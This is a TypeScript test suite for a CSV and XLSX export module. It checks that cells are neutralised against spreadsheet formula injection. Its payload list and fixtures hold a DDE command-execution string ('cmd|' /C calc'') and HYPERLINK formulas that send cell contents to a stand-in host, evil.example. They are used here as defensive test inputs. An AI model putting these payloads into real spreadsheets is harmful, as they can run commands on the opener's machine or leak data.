import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, sheetName, toCsv, writeXlsx, type ExportCell, type ExportTable } from '../../../../src-core/brief/table-export';

/** Every character OWASP lists, and the full-width forms some spreadsheet programs fold to them. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Click")', '1+1', 'SUM(A1:A9)', '', 'x'];

/** What a spreadsheet would take for a formula: a trigger first, or after blanks. */
const startsWithTrigger = (s: string) => /^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u.test(s);
const isNumberText = (s: string) => /^[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?$|^[+-]?\.\d+%?$/.test(s);

const table = (over: Partial<ExportTable> = {}): ExportTable => ({
  title: 'Findings',
  markingLine: 'OFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION',
  filterDescription: 'Search “custody”; Kind: concern',
  rowCount: 3,
  columns: [
    { key: 'report', header: 'Report' },
    { key: 'paragraph', header: 'Paragraph' },
    { key: 'note', header: 'Note' },
    { key: 'brief', header: 'In brief' },
  ],
  rows: [
    ['Gwent Police 2017', 3, '=HYPERLINK("http://evil.example","x")', true],
    ['Gwent Police 2017', 4, 'Custody used 63 times, "high"\nsee para 4', false],
    ['Gwent Police 2017', -16, null, null],
  ],
  ...over,
});

// Read as what it is (RFC 4180, comma, CRLF): papaparse's delimiter guess takes a tab for the
// delimiter when cells hold more tabs than commas, which a spreadsheet given a .csv never does.
const parseCsv = (csv: string) =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: false, delimiter: ',', newline: '\r\n' }).data;

describe('neutraliseCell', () => {
  it.each(TRIGGERS.filter((t) => t !== '\r').flatMap((t) => PAYLOADS.map((p) => [t, p])))('prefixes %j%j with an apostrophe', (t, p) => {
    expect(neutraliseCell(`${t}${p}`)).toBe(`'${t}${p}`);
  });

  it('shows a lone CR as its code point (as every export does, text/visible.ts): then it starts no formula', () => {
    for (const p of PAYLOADS) expect(neutraliseCell(`\r${p}`)).toBe(`⟨U+000D⟩${p}`);
    // A CR LF pair is one line break, kept as a line feed, which is neutralised as before.
    expect(neutraliseCell('\r\n=1+1')).toBe("'\n=1+1");
  });

  it('also catches a trigger after leading blanks, which some programs trim before evaluating', () => {
    for (const blank of [' ', '   ', '\u00A0', '\u3000']) expect(neutraliseCell(`${blank}=1+1`)).toBe(`'${blank}=1+1`);
  });

  it('leaves ordinary text and numbers written as text alone', () => {
    for (const s of ['Gwent Police', 'a=b', "'=already quoted", '', 'e-mail', '-16', '+13%', '-0.05%', '1,000', '-.5']) {
      expect(neutraliseCell(s)).toBe(s);
    }
    // A sign followed by more than a number is a formula.
    for (const s of ['-16+1', '+13%*2', '-1,00', '@16']) expect(neutraliseCell(s)).toBe(`'${s}`);
  });
});

describe('CSV export', () => {
  it('has the marking first and last, the filter and count, a blank row, the header and the rows', () => {
    const csv = toCsv(table());
    expect(csv.startsWith('\uFEFFOFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION\r\n')).toBe(true);
    expect(csv.endsWith('\r\nOFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION\r\n')).toBe(true);
    expect(parseCsv(csv)).toEqual([
      ['OFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION'],
      ['Findings', 'Filter: Search “custody”; Kind: concern', '3 rows'],
      [''],
      ['Report', 'Paragraph', 'Note', 'In brief'],
      ['Gwent Police 2017', '3', '\'=HYPERLINK("http://evil.example","x")', 'TRUE'],
      ['Gwent Police 2017', '4', 'Custody used 63 times, "high"\nsee para 4', 'FALSE'],
      ['Gwent Police 2017', '-16', '', ''],
      ['OFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION'],
      [''],
    ]);
    // RFC 4180: quotes doubled inside a quoted field; a number is written bare.
    expect(csv).toContain('"Custody used 63 times, ""high""\nsee para 4"');
    expect(csv).toContain(',-16,');
  });

  it('says when it holds fewer rows than the view had, and neutralises the filter text too', () => {
    const rows = parseCsv(toCsv(table({ rowCount: 10, filterDescription: '=evil()', title: '@title' })));
    expect(rows[1]).toEqual(["'@title", 'Filter: =evil()', '3 of 10 rows']);
    expect(parseCsv(toCsv(table({ filterDescription: '' })))[1]?.[1]).toBe('Filter: none (all rows)');
  });

  it('never writes a cell a spreadsheet would run, whatever the text (property, every trigger)', () => {
    const trigger = fc.constantFrom(...TRIGGERS, ' =', '\u00A0+');
    const text = fc.oneof(
      fc.string(),
      fc.tuple(trigger, fc.string()).map(([t, s]) => t + s),
      fc.tuple(fc.constantFrom(' ', '"', ',', '\r\n'), trigger, fc.string()).map((p) => p.join('')),
    );
    const cell: fc.Arbitrary<ExportCell> = fc.oneof(text, fc.double({ noNaN: true }), fc.integer(), fc.boolean(), fc.constant(null));
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 8 }),
        text,
        text,
        text,
        (rows, title, filter, header) => {
          const t = table({
            rows,
            title,
            filterDescription: filter,
            columns: [0, 1, 2].map((i) => ({ key: `c${i}`, header: `${header}${i}` })),
          });
          const parsed = parseCsv(toCsv(t));
          const body = parsed.slice(4, 4 + rows.length);
          for (const r of parsed.flat()) {
            if (startsWithTrigger(r)) expect(isNumberText(r) || /^-?\d+(\.\d+)?(e[+-]\d+)?$/.test(r)).toBe(true);
          }
          // Each text cell comes back exactly as neutralised; numbers as numbers.
          rows.forEach((r, i) =>
            r.forEach((v, j) => {
              const got = body[i]?.[j];
              if (typeof v === 'string') expect(got).toBe(neutraliseCell(v));
              else if (typeof v === 'number' && Number.isFinite(v)) expect(Number(got)).toBe(v === 0 ? 0 : v);
              else if (typeof v === 'number') expect(got).toBe(neutraliseCell(String(v)));
            }),
          );
          expect(parsed[0]).toEqual([t.markingLine]);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('XLSX export', () => {
  async function readBack(bytes: Uint8Array) {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no worksheet');
    return ws;
  }

  it('reads back with the marking in row 1 and last, the filter row, a bold frozen header, and no formula anywhere', async () => {
    const bytes = await writeXlsx(table(), ExcelJS);
    const ws = await readBack(bytes);
    expect(ws.name).toBe('Findings');
    expect(ws.getRow(1).getCell(1).value).toBe('OFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION');
    expect(ws.getRow(2).values).toEqual([undefined, 'Findings', 'Filter: Search “custody”; Kind: concern', '3 rows']);
    expect(ws.getRow(3).cellCount).toBe(0);
    expect([1, 2, 3, 4].map((i) => ws.getRow(4).getCell(i).value)).toEqual(['Report', 'Paragraph', 'Note', 'In brief']);
    expect(ws.getRow(4).getCell(1).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 });
    expect([1, 2, 3, 4].map((i) => ws.getRow(5).getCell(i).value)).toEqual([
      'Gwent Police 2017',
      3,
      '\'=HYPERLINK("http://evil.example","x")',
      true,
    ]);
    expect(ws.getRow(7).getCell(2).value).toBe(-16);
    expect(ws.getRow(5).getCell(3).numFmt).toBe('@');
    expect(ws.getRow(ws.rowCount).getCell(1).value).toBe('OFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION');
    expect(ws.headerFooter.oddHeader).toContain('OFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION');
    expect(ws.headerFooter.oddFooter).toContain('OFFICIAL-SENSITIVE – NOT FOR ONWARD CIRCULATION');
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(c.formula).toBeUndefined();
      }),
    );
    // And in the file itself: no <f> (formula) element in the sheet XML.
    const zip = await JSZip.loadAsync(bytes);
    const sheet = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheet).toBeDefined();
    expect(sheet).not.toMatch(/<f[\s>]/);
  });

  it('no text cell starts with a trigger, for every trigger and payload', async () => {
    const rows: ExportCell[][] = TRIGGERS.flatMap((t) => PAYLOADS.map((p) => [`${t}${p}`, ` ${t}${p}`, 1]));
    const t = table({
      rows,
      rowCount: rows.length,
      title: '=x',
      filterDescription: '+y',
      columns: [0, 1, 2].map((i) => ({ key: `c${i}`, header: `-h${i}` })),
    });
    const ws = await readBack(await writeXlsx(t, ExcelJS));
    let texts = 0;
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell((c) => {
        expect(c.formula).toBeUndefined();
        if (typeof c.value === 'string') {
          texts++;
          expect(startsWithTrigger(c.value)).toBe(false);
        }
      }),
    );
    expect(texts).toBe(2 + 3 + 3 + rows.length * 2);
  });

  it('names the sheet within what Excel accepts', () => {
    expect(sheetName('Findings: custody / mental health [saved view]')).toBe('Findings custody mental health');
    expect(sheetName('???')).toBe('Export');
    expect(sheetName("'quoted'")).toBe('quoted');
  });
});
